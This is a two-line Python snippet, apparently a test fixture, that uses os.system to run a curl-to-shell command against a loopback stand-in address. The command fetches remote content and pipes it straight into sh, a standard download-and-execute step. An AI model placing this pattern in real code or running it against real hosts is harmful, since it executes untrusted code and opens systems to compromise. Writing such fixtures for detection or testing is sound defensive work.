import os
os.system('curl http://127.0.0.1:9/x | sh')
